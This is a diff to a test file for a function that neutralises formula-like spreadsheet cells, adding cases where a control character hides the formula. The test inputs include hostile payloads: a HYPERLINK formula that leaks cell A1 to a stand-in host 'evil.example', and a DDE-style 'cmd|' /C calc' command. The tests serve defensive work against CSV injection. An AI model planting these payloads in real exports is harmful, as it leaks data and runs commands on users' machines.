@@ -74,4 +74,6 @@ def test_formula_like_cells_are_defused() -> None:
     assert defuse('-2+3+HYPERLINK("http://evil.example/?leak="&A1,"x")').startswith("'-2+3")
     assert defuse("-5 percent") == "'-5 percent" and defuse("- a list") == "'- a list"
     assert defuse("-12") == "-12" and defuse("-3.5") == "-3.5" and defuse("-1,000.25") == "-1,000.25"
+    assert defuse("\x01-1+1+cmd|' /C calc'!A0") == "'-1+1+cmd|' /C calc'!A0"  # a control character hid it
+    assert defuse("\x9b=SUM(A1)") == "'=SUM(A1)"
     assert defuse("Ilham Əliyev") == "Ilham Əliyev"
